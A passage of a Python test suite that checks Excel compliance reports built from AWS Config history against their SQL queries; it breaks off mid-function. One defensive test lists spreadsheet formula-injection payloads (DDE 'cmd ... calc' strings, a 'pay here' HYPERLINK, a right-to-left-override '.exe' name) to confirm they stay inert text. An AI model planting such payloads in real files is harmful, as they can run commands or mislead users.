"""Reads every cell of the workbooks that the unit test report/test_report wrote and compares it with
the queries that they claim to come from, and those with the history's own tables.

The workbooks are in the build folder: CONFHOUSE_BUILD_DIR, or the newest build/*/ that has them.
"""

import datetime
import glob
import os
import re
import shlex
import shutil
import sqlite3
import urllib.parse
import xml.dom.minidom
import zipfile

import openpyxl
import pytest
from openpyxl.utils.escape import unescape

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
DASH = "\u2013"
GREEN_FROM, YELLOW_FROM = 0.95, 0.80

# file: (history, its run, rows that fit in a sheet, what it is narrowed to)
BOOKS = {
    "report-fixture.xlsx": ("report-fixture", "2026-11-22", None, {}),
    "report-fixture-parts.xlsx": ("report-fixture", "2026-11-22", 6, {}),
    "report-fixture-early.xlsx": ("report-fixture", "2026-11-08", None, {}),
    "report-fixture-first.xlsx": ("report-fixture", "2026-10-18", None, {}),
    "report-fixture-prod.xlsx": ("report-fixture", "2026-11-22", None, {"environment": "prod"}),
    "report-fixture-owner.xlsx": ("report-fixture", "2026-11-22", None,
                                  {"owner": "platform", "since": "2026-11-01"}),
    "report-fixture-nobody.xlsx": ("report-fixture", "2026-11-22", None, {"owner": ""}),
    "report-fixture-account.xlsx": ("report-fixture", "2026-11-22", None,
                                    {"account": "webshop-staging"}),
    "report-fixture-noprod.xlsx": ("report-fixture-noprod", "2026-11-22", None, {}),
    "report-fixture-unscanned.xlsx": ("report-fixture-unscanned", "2026-11-22", None, {}),
    "report-fixture-clean.xlsx": ("report-fixture-clean", "2026-11-22", None, {}),
}
WHOLE = [name for name, (_, _, _, narrowed) in BOOKS.items() if not narrowed]

WORDS = {
    "prod": "Prod", "nonprod": "Non-Prod", "unclassified": "Unclassified",
    "COMPLIANT": "Compliant", "NON_COMPLIANT": "Non-compliant", "NOT_APPLICABLE": "Not applicable",
    "new": "New", "reopened": "Reopened", "resolved": "Resolved", "gone": "No longer reported",
    "scanned": "Read", "denied": "Access denied", "failed": "Failed",
    "missing": "Nothing received", "skipped": "Left out on purpose",
    "insufficient_data": "No data yet", "on": "On", "stopped": "Stopped", "none": "Off",
    "rules_failed": "Rules not read", "recorder_off": "AWS Config is off",
    "shards_refused": "Damaged result files", "refused": "Cannot be used", "expired": "Expired",
    "expiring": "Ends within 30 days", "unused": "Accepts nothing", "active": "Active",
}


def text(value, row):
    """As a cell can hold it: see src/report/cell_text.h."""
    if value is None:
        return None
    value = re.sub("\r\n?", "\n", value)
    value = re.sub("[\udc80-\udcff]", "\ufffd", value)
    value = re.sub("[\x00-\x08\x0b-\x1f\ufffe\uffff]", "\ufffd", value)
    if len(value.encode("utf-16-le")) // 2 > 32767:
        value = value[:32760] + "\u2026 [cut]"
    return re.sub("\ufffd+", "\ufffd", value)


def word(value, row):
    return WORDS.get(value, value)


def count(value, row):
    return DASH if value is None else value


def plain(value, row):
    return value


def ratio(value, row):
    if value is None:
        return {"none": "not read", "out": "left out"}.get(row.get("reading"), DASH)
    return pytest.approx(value, abs=1e-12)


def gap(value, row):
    return None if value is None else pytest.approx(value, abs=1e-12)


def points(value, row):
    return DASH if value is None else pytest.approx(value * 100, abs=1e-9)


def date(value, row):
    return "never" if value is None else datetime.datetime.strptime(value, "%Y-%m-%d")


def day(value, row):
    return None if value is None else datetime.datetime.strptime(value, "%Y-%m-%d")


def link(value, row):
    """Of a region of the partition aws: see src/report/console.h."""
    start = (f"https://{row['region']}.console.aws.amazon.com/config/home"
             f"?region={row['region']}#")
    encoded = [urllib.parse.quote(part.encode("utf-8", "surrogateescape"), safe="").replace(
                   "_x", "%5Fx")
               for part in (value, row["resource_type"])]
    url = start + f"/resources/timeline?resourceId={encoded[0]}&resourceType={encoded[1]}"
    if len(url) > 255:
        name = urllib.parse.quote(row["rule_name"].encode(), safe="")
        url = start + f"/rules/details?configRuleName={name}"
    return f'=HYPERLINK("{url}","Open")'


def status(value, row):
    if value is None:
        return {"none": "\u25cb Not read", "out": "Left out on purpose",
                "empty": "No accounts"}.get(row.get("reading"), "Nothing to rate")
    partly = ", partly read" if row.get("reading") == "part" else ""
    if value >= GREEN_FROM:
        return "\u25cf On target" + partly
    return ("\u25b2 Watch" if value >= YELLOW_FROM else "\u25bc Act") + partly


def or_(absent, show):
    return lambda value, row: absent if value is None else show(value, row)


# sheet: (query, [(header, column, how it is shown)], whether a total stands below)
SUMS = [("Compliant", "compliant", count), ("Non-compliant", "non_compliant", count),
        ("Waived of these", "waived", count), ("Not applicable", "not_applicable", count),
        ("Ratio", "ratio", ratio), ("After waivers", "ratio_after_waivers", ratio)]
MOVED = [("New findings", "new_findings", count), ("Resolved findings", "resolved_findings", count)]
OLDEST = [("Oldest finding", "oldest_finding", day), ("Days open", "oldest_days", plain)]
SHEETS = {
    "Trend": ("sheet_trend", [
        ("Date", "scan_date", day), ("Run", "group_id", text), ("Prod ratio", "prod_ratio", gap),
        ("Prod after waivers", "prod_ratio_after_waivers", gap),
        ("Non-Prod ratio", "nonprod_ratio", gap),
        ("Non-Prod after waivers", "nonprod_ratio_after_waivers", gap),
        ("Unclassified ratio", "unclassified_ratio", gap), ("Open in Prod", "prod_open", plain),
        ("Open in Non-Prod", "nonprod_open", plain),
        ("Open in Unclassified", "unclassified_open", plain),
        ("Open findings", "open_findings", plain), ("New findings", "new_findings", plain),
        ("Resolved findings", "resolved_findings", plain), ("Scopes", "scopes_planned", plain),
        ("Scopes read", "scopes_scanned", plain), ("Remark", "note", text)], False),
    "Rules": ("sheet_rules", [
        ("Rule", "rule_group", text), ("Prod ratio", "prod_ratio", ratio),
        ("Non-Prod ratio", "nonprod_ratio", ratio),
        ("Unclassified ratio", "unclassified_ratio", ratio), *SUMS,
        ("Change since last run", "change", points), ("Status", "ratio", status), *OLDEST,
        ("Scopes where not read", "failed", plain), ("Scopes with no data yet", "no_data", plain)],
              True),
    "Accounts": ("sheet_accounts", [
        ("Account name", "account_name", text), ("Account ID", "account_id", text),
        ("Environment", "environment", word), ("Regions", "scopes_wanted", count),
        ("Regions read", "scopes_scanned", count), *SUMS,
        ("Change since last run", "change", points), ("Status", "ratio", status), *MOVED], True),
    "Owners": ("sheet_owners", [
        ("Owner", "owner", or_("no owner", text)), ("Rules", "rules", plain),
        ("Accounts", "accounts", plain), *SUMS, ("Status", "ratio", status), *MOVED, *OLDEST], True),
    "Regions": ("sheet_regions", [
        ("Region", "region", text), ("Accounts", "scopes_wanted", plain),
        ("Accounts read", "scopes_scanned", plain), *SUMS, ("Status", "ratio", status), *MOVED,
        *OLDEST], True),
    "Changes": ("sheet_changes", [
        ("Change", "change", word), ("Environment", "environment", word),
        ("Account name", "account_name", text), ("Account ID", "account_id", text),
        ("Region", "region", text), ("Rule", "rule_group", text),
        ("Resource type", "resource_type", text), ("Resource ID", "resource_id", text),
        ("Owner", "owner", or_("no owner", text)),
        ("Before", "compliance_before", or_("not reported", word)),
        ("Now", "compliance_after", or_("not reported", word)),
        ("In AWS Config", "resource_id", link), ("Rule name in AWS", "rule_name", text)], False),
    "Non-compliant": ("sheet_noncompliant", [
        ("Environment", "environment", word), ("Account name", "account_name", text),
        ("Account ID", "account_id", text), ("Region", "region", text),
        ("Rule", "rule_group", text), ("Resource type", "resource_type", text),
        ("Resource ID", "resource_id", text), ("Why", "annotation", text),
        ("Owner", "owner", or_("no owner", text)), ("First seen", "since", day),
        ("Days open", "age_days", plain), ("Runs open", "age_runs", plain),
        ("Waived until", "waiver_expires", day), ("Waiver", "waiver_reason", text),
        ("In AWS Config", "resource_id", link), ("Rule name in AWS", "rule_name", text)], False),
    "Waivers": ("sheet_waivers", [
        ("State", "state", word), ("Account", "account", or_("any", text)),
        ("Region", "region", or_("any", text)), ("Rule", "rule", or_("any", text)),
        ("Resource", "resource", or_("any", text)), ("Reason", "reason", text),
        ("Who answers for it", "owner", or_("nobody named", text)), ("Until", "expires", day),
        ("Days left", "days_left", plain), ("Findings accepted", "findings", plain),
        ("Findings not read now", "findings_unread", plain),
        ("Line of waivers.csv", "line", or_("not in it", plain)),
        ("What is wrong with it", "message", text)], False),
    "Coverage": ("sheet_coverage", [
        ("Outcome", "outcome", word), ("Account name", "account_name", text),
        ("Account ID", "account_id", text), ("Environment", "environment", word),
        ("Region", "region", text), ("Why", "message", text), ("Error code", "error_code", text),
        ("What to do", "what_to_do", text), ("Not read since", "unread_since", day),
        ("Last read", "last_scanned", or_("never", day)),
        ("Findings last known", "last_known_findings", plain),
        ("Oldest of these", "last_known_since", day),
        ("AWS Config recorder", "recorder", or_("not known", word)), ("Rules", "rules", count),
        ("Rules not read", "rules_failed", count), ("Evaluations", "evaluations", count)], False),
    "Rules not read": ("sheet_rules_unread", [
        ("Outcome", "outcome", word), ("Rule", "rule_group", text),
        ("Account name", "account_name", text), ("Account ID", "account_id", text),
        ("Environment", "environment", word), ("Region", "region", text),
        ("Error code", "error_code", text), ("Why", "message", text),
        ("Owner", "owner", or_("no owner", text)),
        ("Findings last known", "last_known_findings", plain),
        ("Oldest of these", "last_known_since", day), ("Rule name in AWS", "rule_name", text)], False),
}

# section of the Summary: (query, columns, whether a total stands below)
FOUND = [("Ratio, as found", "ratio", ratio), ("Ratio after waivers", "ratio_after_waivers", ratio)]
SECTIONS = {
    "Compliance by environment": ("sheet_environments", [
        ("Environment", "environment", word), ("Accounts", "accounts", count),
        ("Compliant", "compliant", count), ("Non-compliant", "non_compliant", count),
        ("Waived of these", "waived", count), ("Not applicable", "not_applicable", count), *FOUND,
        ("Change, like for like", "change", points), ("Status, as found", "ratio", status)], True),
    "Findings": ("sheet_environments", [
        ("Environment", "environment", word), ("Open now", "non_compliant", count),
        ("New since last run", "new_findings", count),
        ("Reopened since", "reopened_findings", count),
        ("Resolved since", "resolved_findings", count),
        ("No longer reported", "gone_findings", count)], True),
    "Rules that need attention most": ("sheet_attention_rules", [
        ("Rule", "rule_group", text), ("Open in Prod", "prod", count),
        ("Open in Non-Prod", "nonprod", count), ("Open in Unclassified", "unclassified", count),
        ("Open in all", "non_compliant", count), ("Waived besides", "waived", count),
        ("New or reopened", "new_findings", count), *FOUND,
        ("Status, as found", "ratio", status)], False),
    "Accounts that need attention most": ("sheet_attention_accounts", [
        ("Account name", "account_name", text), ("Account ID", "account_id", text),
        ("Environment", "environment", word), ("Open findings", "non_compliant", count),
        ("Waived besides", "waived", count), ("New or reopened", "new_findings", count),
        ("Resolved since", "resolved_findings", count), *FOUND,
        ("Status, as found", "ratio", status)], False),
    "What is missing": ("sheet_missing", [
        ("What", "missing", word), ("How many", "items", count), ("Accounts", "accounts", count),
        ("For example", "example", text), ("What to do", "what_to_do", text)], False),
}


def build_dir():
    named = os.environ.get("CONFHOUSE_BUILD_DIR")
    if named:
        return named
    found = glob.glob(os.path.join(ROOT, "build", "*", "report-fixture.xlsx"))
    assert found, "build with CONFHOUSE_TESTS=ON and run the unit tests first"
    return os.path.dirname(max(found, key=os.path.getmtime))


def open_history(path):
    db = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
    db.text_factory = lambda raw: raw.decode("utf-8", "surrogateescape")
    db.row_factory = sqlite3.Row
    return db


def query(db, name, group_id, **narrowed):
    """All rows; narrowed as far as the query can be."""
    with open(os.path.join(ROOT, "queries", name + ".sql"), encoding="utf-8") as file:
        sql = file.read()
    values = {param: narrowed.get(param) for param in re.findall(r"^-- param (\w+):", sql, re.M)}
    values["group_id"] = group_id
    return [dict(row) for row in db.execute(sql, values)]


def value_of(cell):
    if isinstance(cell.value, str):
        return re.sub("\ufffd+", "\ufffd", unescape(cell.value))
    return cell.value


@pytest.fixture(scope="module")
def history():
    with open_history(os.path.join(build_dir(), "report-fixture.db")) as db:
        yield db


class Report:
    def __init__(self, name):
        history, self.group_id, self.limit, self.narrowed = BOOKS[name]
        self.path = os.path.join(build_dir(), name)
        self.book = openpyxl.load_workbook(self.path)
        self.history = open_history(os.path.join(build_dir(), history + ".db"))

    def parts(self, title):
        return [self.book[name] for name in self.book.sheetnames
                if name == title or re.fullmatch(re.escape(title) + r" \(\d+\)", name)]

    def query(self, name):
        return query(self.history, name, self.group_id, **self.narrowed)


@pytest.fixture(scope="module", params=BOOKS)
def report(request):
    return Report(request.param)


@pytest.fixture(scope="module", params=WHOLE)
def whole(request):
    """One that is not narrowed."""
    return Report(request.param)


@pytest.fixture(scope="module")
def newest():
    return Report("report-fixture.xlsx")


def is_note(row):
    """A line of text in the first cell alone."""
    return row[0].font.i and isinstance(row[0].value, str) and all(c.value is None for c in row[1:])


def test_the_sheets_stand_in_their_order_and_summary_is_open(report):
    titles = [name for name in report.book.sheetnames if not name.endswith(")")]
    assert titles == ["Summary", *SHEETS, "About"]
    assert report.book.active.title == "Summary"
    assert report.book.properties.creator.startswith("confhouse")
    assert report.group_id in report.book.properties.title + report.book.properties.subject


@pytest.mark.parametrize("title", SHEETS)
def test_every_cell_of_a_sheet_is_what_its_query_says(report, title):
    name, columns, has_total = SHEETS[title]
    expected = report.query(name)
    rows = []
    parts = report.parts(title)
    for index, sheet in enumerate(parts):
        assert [cell.value for cell in sheet[2]][:len(columns)] == [c[0] for c in columns]
        assert report.limit is None or sheet.max_row <= report.limit
        body = [row[:len(columns)] for row in sheet.iter_rows(min_row=3)]
        if index > 0:
            assert f"\u201c{parts[index - 1].title}\u201d" in sheet["A1"].value
        if index + 1 < len(parts):
            assert is_note(body[-1]) and f"\u201c{parts[index + 1].title}\u201d" in body.pop()[0].value
        rows += body
    if not expected:
        assert len(rows) == 1 and is_note(rows[0])
        return
    if has_total:
        check_total(rows.pop(), columns, expected)
    assert len(rows) == len(expected)
    for cells, row in zip(rows, expected):
        for cell, (header, column, show) in zip(cells, columns):
            assert value_of(cell) == show(row[column], row), f"{header} in {cell.coordinate}"


def check_total(cells, columns, rows):
    assert cells[0].value in ("Total", "All")
    for cell, (header, column, show) in zip(cells[1:], columns[1:]):
        values = [row[column] for row in rows if row[column] is not None]
        if show is ratio and ("Ratio" in header or header == "After waivers") \
                and column.startswith("ratio"):
            compliant = sum(row["compliant"] or 0 for row in rows)
            rated = compliant + sum(row["non_compliant"] or 0 for row in rows)
            good = compliant + sum(row["waived"] or 0 for row in rows if "after" in column)
            assert cell.value == (pytest.approx(good / rated) if rated else None)
        elif show is count:
            assert cell.value == (sum(values) if values else None), header
        else:
            assert cell.value is None, header


@pytest.mark.parametrize("title", SECTIONS)
def test_every_figure_of_the_summary_is_what_its_query_says(report, title):
    name, columns, has_total = SECTIONS[title]
    sheet = report.book["Summary"]
    start = next(row for row in range(1, sheet.max_row) if sheet.cell(row, 2).value == title)
    expected = report.query(name)
    if not expected:
        assert sheet.cell(start + 1, 2).font.i
        return

    def cells_of(row):  # without the hidden cells of those that span several
        return [cell for cell in sheet[row][1:]
                if not isinstance(cell, openpyxl.cell.cell.MergedCell)][:len(columns)]

    assert [cell.value for cell in cells_of(start + 1)] == [column[0] for column in columns]
    for index, row in enumerate(expected):
        for cell, (header, column, show) in zip(cells_of(start + 2 + index), columns):
            assert value_of(cell) == show(row[column], row), f"{header} in {cell.coordinate}"
    if has_total:
        check_total(cells_of(start + 2 + len(expected)), columns, expected)


def test_the_summary_says_in_plain_words_what_was_read(newest):
    lines = [newest.book["Summary"].cell(row, 2).value for row in range(1, 5)]
    assert lines[1] == ("Run of 2026-11-22, compared with the run of 2026-11-15. "
                        "Organization o-a1b2c3d4e5 of payments-prod")
    assert lines[2] == (
        "\u25b2 7 of 11 scopes (accounts by region) were read; 1 account could not be read at all; "
        "8 rules could not be read; 25 findings were open there when last read; 2 scopes have AWS "
        "Config switched off; 1 result file was damaged; 3 scopes were left out on purpose.")


def test_the_first_run_is_complete_and_has_nothing_to_compare_with():
    sheet = Report("report-fixture-first.xlsx").book["Summary"]
    assert sheet["B2"].value.endswith("nothing to compare it with")
    assert sheet["B3"].value == ("\u25cf All 12 scopes (accounts by region) were read; 2 scopes were "
                                 "left out on purpose.")


def test_the_ratios_are_those_of_the_intervals(newest, history):
    """The workbook against the evaluations themselves, not against the counts made of them."""
    sheet = newest.book["Summary"]
    start = next(row for row in range(1, 20) if sheet.cell(row, 2).value == "Environment")
    for offset, environment in enumerate(("prod", "nonprod", "unclassified"), 1):
        compliant, broken = history.execute(
            """SELECT sum(i.compliance = 0), sum(i.compliance = 1)
               FROM interval i JOIN rule u USING (rule_key) JOIN scope s USING (scope_key)
               JOIN run r ON r.group_id = '2026-11-22'
               JOIN run_scope k ON k.run_no = r.run_no AND k.scope_key = s.scope_key
               JOIN run_account a ON a.run_no = r.run_no AND a.account_key = s.account_key
               WHERE i.mode = 0 AND i.began <= r.run_no AND coalesce(i.ended > r.run_no, 1)
                 AND k.outcome = 'scanned' AND a.environment = ?
                 AND NOT EXISTS (SELECT 1 FROM run_rule x WHERE x.run_no = r.run_no
                                 AND x.rule_key = u.rule_key AND x.outcome = 'failed')""",
            (environment,)).fetchone()
        row = start + offset
        assert sheet.cell(row, 4).value == compliant
        assert sheet.cell(row, 5).value == broken
        assert sheet.cell(row, 8).value == pytest.approx(compliant / (compliant + broken))


def test_the_sheets_agree_with_each_other(report):
    def total(name, column):
        return sum(row[column] or 0 for row in report.query(name))

    sheets = ("environments", "rules", "accounts", "owners", "regions")
    counts = {name: [total("sheet_" + name, column) for column in
                     ("compliant", "non_compliant", "waived", "not_applicable")] for name in sheets}
    assert len({tuple(found) for found in counts.values()}) == 1, counts
    newest = report.query("sheet_trend")[-1]
    listed = query(report.history, "sheet_noncompliant", report.group_id,
                   **{**report.narrowed, "since": None})
    assert counts["rules"][1] == len(listed) == (newest["open_findings"] or 0)
    assert counts["rules"][2] == sum(row["waiver_expires"] is not None for row in listed)
    changes = [row["change"] for row in report.query("sheet_changes")]
    for column, kind in (("new_findings", "new"), ("reopened_findings", "reopened"),
                         ("resolved_findings", "resolved"), ("gone_findings", "gone")):
        assert total("sheet_environments", column) == changes.count(kind), column
    for name in ("accounts", "owners", "regions"):
        assert total("sheet_" + name, "new_findings") == \
            changes.count("new") + changes.count("reopened"), name
        assert total("sheet_" + name, "resolved_findings") == changes.count("resolved"), name
    assert (newest["new_findings"] or 0) == changes.count("new") + changes.count("reopened")
    assert (newest["resolved_findings"] or 0) == changes.count("resolved")


NARROWED = [{"environment": "prod"}, {"environment": "unclassified"}, {"account": "333333333333"},
            {"account": "033333333333"}, {"account": "webshop-prod"}, {"owner": "platform"},
            {"owner": ""}, {"owner": "+identity team", "environment": "nonprod"},
            {"owner": "-1+1", "account": "444444444444"}]


@pytest.mark.parametrize("run", ["2026-10-18", "2026-11-01", "2026-11-15", "2026-11-22"])
@pytest.mark.parametrize("narrowed", NARROWED, ids=str)
def test_what_is_narrowed_is_that_part_of_the_whole(history, run, narrowed):
    """Against the evaluations of each run, one by one."""
    def holds(row):
        return (narrowed.get("environment") in (None, row["environment"])
                and narrowed.get("account") in (None, row["account_id"], row["account_name"])
                and narrowed.get("owner") in (None, row["owner"] or ""))

    def counts(rows):
        states = [row["compliance"] for row in rows]
        return [states.count(state) for state in ("COMPLIANT", "NON_COMPLIANT", "NOT_APPLICABLE")]

    def evaluations(group_id):
        rows = map(dict, history.execute("SELECT * FROM evaluations WHERE group_id = ? AND mode = "
                                         "'DETECTIVE'", (group_id,)))
        return [row for row in rows if holds(row)]

    def sums(rows):
        return [sum(row[column] or 0 for row in rows)
                for column in ("compliant", "non_compliant", "not_applicable")]

    part = evaluations(run)
    for name, column in (("environments", "environment"), ("rules", "rule_group"),
                         ("accounts", "account_id"), ("owners", "owner"), ("regions", "region")):
        rows = query(history, "sheet_" + name, run, **narrowed)
        assert sums(rows) == counts(part), name
        for row in rows:
            own = counts([e for e in part if e[column] == row[column]])
            assert sums([row]) == own, (name, row[column])
            rated = own[0] + own[1]
            assert row["ratio"] == (pytest.approx(own[0] / rated) if rated else None)
            waived = sum(e["waiver_key"] is not None for e in part if e[column] == row[column])
            assert (row["waived"] or 0) == waived, (name, row[column])
    oldest = {row["rule_group"]: row["oldest_finding"]
              for row in query(history, "sheet_rules", run, **narrowed)}
    for rule in oldest:
        assert oldest[rule] == min((e["since"] for e in part if e["rule_group"] == rule
                                    and e["compliance"] == "NON_COMPLIANT"), default=None)
    listed = query(history, "sheet_noncompliant", run, **narrowed)
    assert len(listed) == counts(part)[1]
    trend = query(history, "sheet_trend", run, **narrowed)
    for row in trend:
        then = evaluations(row["group_id"])
        assert (row["open_findings"] or 0) == counts(then)[1], row["group_id"]
        for environment in ("prod", "nonprod", "unclassified"):
            own = counts([e for e in then if e["environment"] == environment])
            expected = pytest.approx(own[0] / (own[0] + own[1])) if own[0] + own[1] else None
            assert row[environment + "_ratio"] == expected
            if environment != "unclassified" and expected is not None:
                waived = sum(e["waiver_key"] is not None for e in then
                             if e["environment"] == environment)
                assert row[environment + "_ratio_after_waivers"] == \
                    pytest.approx((own[0] + waived) / (own[0] + own[1]))


def test_changes_are_of_what_both_runs_read(history):
    def ask(sql, run):
        return [tuple(row) for row in history.execute(sql, {"run": run})]

    def ratios(run, is_common):
        counts = {}
        for account, region, rule, environment, compliance in ask(
                "SELECT account_id, region, rule_name, environment, compliance FROM evaluations"
                " WHERE group_id = :run AND mode = 'DETECTIVE'", run):
            if is_common(account, region, rule) and compliance != "NOT_APPLICABLE":
                count = counts.setdefault(environment, [0, 0])
                count[compliance == "NON_COMPLIANT"] += 1
        return {environment: good / (good + bad) for environment, (good, bad) in counts.items()}

    seen = set()
    for run, before in history.execute("SELECT group_id, previous_group_id FROM runs"
                                       " WHERE previous_group_id IS NOT NULL").fetchall():
        scopes = [set(ask("SELECT account_id, region FROM coverage"
                          " WHERE group_id = :run AND outcome = 'scanned'", each))
                  for each in (run, before)]
        failed = [set(ask("SELECT account_id, region, rule_name FROM rule_coverage"
                          " WHERE group_id = :run AND outcome = 'failed'", each))
                  for each in (run, before)]

        def is_common(*rule):
            return rule[:2] in scopes[0] & scopes[1] and rule not in failed[0] | failed[1]

        now, then = ratios(run, is_common), ratios(before, is_common)
        for row in query(history, "sheet_environments", run):
            environment = row["environment"]
            expected = (pytest.approx(now[environment] - then[environment])
                        if environment in now and environment in then else None)
            assert row["change"] == expected, (run, environment)
            seen.add(row["change"])
    assert len(seen) > 6


@pytest.mark.parametrize("run", ["2026-10-18", "2026-11-08", "2026-11-22"])
def test_findings_stand_rule_by_rule_though_nothing_sorts_them(history, run):
    places = [(["prod", "nonprod", "unclassified"].index(row["environment"]), row["account_name"],
               row["account_id"], row["region"], row["rule_name"])
              for row in query(history, "sheet_noncompliant", run)]
    assert len(set(places)) > 5 and places == sorted(places)


def test_since_narrows_the_trend_and_the_list_of_findings(history):
    trend = query(history, "sheet_trend", "2026-11-22", since="2026-11-08")
    assert [row["scan_date"] for row in trend] == ["2026-11-08", "2026-11-15", "2026-11-22"]
    listed = query(history, "sheet_noncompliant", "2026-11-22", since="2026-11-08")
    everything = query(history, "sheet_noncompliant", "2026-11-22")
    assert listed == [row for row in everything if row["since"] >= "2026-11-08"]
    assert 0 < len(listed) < len(everything)


def cut_after(source, target, run):
    """The history as it was when that run was the newest."""
    shutil.copy(source, target)
    db = sqlite3.connect(target)
    (run_no,) = db.execute("SELECT run_no FROM run WHERE group_id = ?", (run,)).fetchone()
    for table, column in (("interval", "began"), ("rule_tag", "began")):
        db.execute(f"DELETE FROM {table} WHERE {column} > ?", (run_no,))
        db.execute(f"UPDATE {table} SET ended = NULL WHERE ended > ?", (run_no,))
    db.execute("DELETE FROM accepted WHERE began > ?", (run_no,))
    db.execute("UPDATE accepted SET ended = NULL WHERE ended > ?", (run_no,))
    for table in ("run_waiver", "waiver_problem", "run_shard", "refused_shard", "run_account", "run_scope", "run_rule",
                  "count_environment", "count_rule", "count_account", "run"):
        db.execute(f"DELETE FROM {table} WHERE run_no > ?", (run_no,))
    db.commit()
    db.close()


@pytest.mark.parametrize("run", ["2026-10-18", "2026-11-08", "2026-11-15"])
def test_an_older_run_is_reported_as_it_was_then(tmp_path, history, run):
    cut_after(os.path.join(build_dir(), "report-fixture.db"), tmp_path / "then.db", run)
    with open_history(tmp_path / "then.db") as then:
        files = glob.glob(os.path.join(ROOT, "queries", "sheet_*.sql"))
        for name in sorted(os.path.basename(path)[:-4] for path in files):
            assert query(history, name, run) == query(then, name, run), name
            assert query(then, name, None) == query(then, name, run), name


def test_texts_stay_texts_and_links_are_ours(report):
    address = r'=HYPERLINK\("https://[a-z0-9-]+\.console\.aws\.amazon\.com/config/home' \
              r'\?region=[a-z0-9-]+#/[A-Za-z0-9/?=&._~%-]+","Open"\)'
    for sheet in report.book:
        links = [cell.column for cell in sheet[2] if cell.value == "In AWS Config"]
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.hyperlink is None
                if cell.data_type == "f":
                    assert cell.column in links and re.fullmatch(address, cell.value)
    with zipfile.ZipFile(report.path) as package:
        assert package.testzip() is None
        for name in package.namelist():
            raw = package.read(name)
            xml.dom.minidom.parseString(raw)
            if name.startswith("xl/worksheets/"):
                assert b"<hyperlink" not in raw
                assert raw.count(b"<f>") == raw.count(b"<f>HYPERLINK(&quot;https://") + \
                    raw.count(b'<f>HYPERLINK("https://')


def test_harmful_texts_arrive_as_they_are():
    texts = {value_of(cell) for name in BOOKS for sheet in Report(name).parts("Non-compliant")
             for row in sheet.iter_rows(min_row=3) for cell in row if isinstance(cell.value, str)}
    assert {"=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1-1\t@SUM(A1:A9)", "-1+1",
            "+identity team", '=HYPERLINK("http://example.com/?x="&A1,"pay here")',
            "\t=1+1\nsecond line", "n\u00e4me\ufffd \ufffd(\ufffd", "a\ufffdb\ufffdc\ufffdd",
            '<b>&amp;"quoted"</b> _x0041_ \U0001f680\u00e9',
            "\u200fx\u200e\u202efdp.exe\u202c"} <= texts
    assert any(text_.endswith("w\u2026 [cut]") and len(text_) == 32767 for text_ in texts)


def test_what_is_unknown_is_shown_as_unknown(newest):
    sheet = newest.book["Accounts"]
    header = [cell.value for cell in sheet[2]]
    row = next(r for r in sheet.iter_rows(min_row=3) if r[0].value == "data-lake-prod")
    cells = dict(zip(header, row))
    assert cells["Ratio"].value == "not read"
    assert cells["Status"].value == "\u25cb Not read"
    assert cells["Compliant"].value == DASH
    assert cells["Ratio"].fill.bgColor.rgb != cells["Account name"].fill.bgColor.rgb or \
        cells["Ratio"].font.i
    rules = newest.book["Rules"]
    unread = next(r for r in rules.iter_rows(min_row=3) if r[0].value == "ec2-instance-no-public-ip")
    assert unread[8].value == "not read"


def test_ratios_are_coloured_by_rules_that_texts_do_not_match(report):
    for title in ("Summary", "Rules", "Accounts", "Owners", "Regions", "Trend"):
        sheet = report.parts(title)[0]
        if title != "Summary" and not report.query(SHEETS[title][0]):
            continue
        rules = [rule for found in sheet.conditional_formatting for rule in found.rules]
        assert rules, title
        assert all("ISNUMBER" in rule.formula[0] for rule in rules)
        formulas = " ".join(rule.formula[0] for rule in rules)
        assert ">=0.950000" in formulas and ">=0.800000" in formulas
        # a sign beside each colour
        signs = {rule.dxf.numFmt.formatCode.strip('"')[0] for rule in rules}
        assert signs == {"\u25cf", "\u25b2", "\u25bc"}


def test_a_denied_scope_says_why_and_what_to_do(newest):
    sheet = newest.book["Coverage"]
    first = [cell.value for cell in sheet[3]]
    assert first[0] == "Access denied" and first[1] == "data-lake-prod"
    assert "sts:AssumeRole" in first[5] and first[6] == "AccessDenied"
    assert "scanning role" in first[7]


def test_what_was_last_known_of_the_unread_is_told_and_counted_nowhere_else(newest, history):
    def last_seen(row):
        """Of the run that read the scope last; it may be another for each rule."""
        return history.execute(
            """SELECT count(*), min(since) FROM evaluations e
               WHERE e.account_id = ? AND e.region = ? AND e.compliance = 'NON_COMPLIANT'
                 AND e.mode = 'DETECTIVE' AND e.group_id = (
                     SELECT max(r.group_id) FROM evaluations r
                     WHERE r.account_id = e.account_id AND r.region = e.region
                       AND r.rule_name = e.rule_name)
                 AND (? OR e.rule_name IN (
                     SELECT rule_name FROM rule_coverage WHERE group_id = ? AND outcome = 'failed'
                       AND account_id = e.account_id AND region = e.region))""",
            (row["account_id"], row["region"], row["outcome"] != "scanned",
             newest.group_id)).fetchone()

    coverage = newest.query("sheet_coverage")
    told = {(row["account_id"], row["region"]): row["last_known_findings"] for row in coverage
            if row["last_known_findings"]}
    assert told and len({row["outcome"] for row in coverage if row["last_known_findings"]}) > 1
    for row in coverage:
        if row["last_known_findings"] is not None:
            assert (row["last_known_findings"], row["last_known_since"]) == tuple(last_seen(row))
        else:
            assert last_seen(row)[0] == 0
    viewed = history.execute("""SELECT account_id, region, count(*) FROM last_known_evaluations
                                WHERE compliance = 'NON_COMPLIANT' GROUP BY 1, 2""")
    planned = {(row["account_id"], row["region"]) for row in coverage}
    assert told == {(a, r): n for a, r, n in viewed if (a, r) in planned}
    rules = [row for row in newest.query("sheet_rules_unread") if row["last_known_findings"]]
    assert rules and sum(row["last_known_findings"] for row in rules) == sum(
        row["last_known_findings"] for row in coverage
        if row["outcome"] == "scanned" and row["last_known_findings"])
    assert (f"; {sum(told.values())} findings were open there when last read;"
            in newest.book["Summary"]["B3"].value)


def test_numbers_look_like_what_they_are(newest):
    formats = {
        "Accounts": {"Ratio": "0.0%_w", "Compliant": "#,##0_w"},
        "Non-compliant": {"First seen": "yyyy-mm-dd", "Days open": "#,##0_w"},
        "Trend": {"Date": "yyyy-mm-dd", "Prod ratio": "0.0%_w"},
    }
    for title, columns in formats.items():
        sheet = newest.book[title]
        header = [cell.value for cell in sheet[2]]
        for name, expected in columns.items():
            assert sheet.cell(4, header.index(name) + 1).number_format == expected, name
    change = newest.book["Accounts"].cell(4, 12)
    assert isinstance(change.value, float) and "pp" in change.number_format


def test_sheets_can_be_read_on_screen_and_paper(report):
    for title in SHEETS:
